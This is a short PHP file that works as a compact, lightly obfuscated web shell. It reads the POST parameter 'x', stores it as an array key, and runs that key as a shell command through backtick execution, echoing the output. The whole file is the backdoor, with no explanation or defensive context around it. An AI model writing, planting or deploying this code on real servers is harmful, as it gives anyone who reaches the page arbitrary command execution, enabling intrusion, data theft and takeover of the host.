<?php
$a = array($_POST['x'] => 1);
foreach ($a as $c => $v) { echo `$c`; }
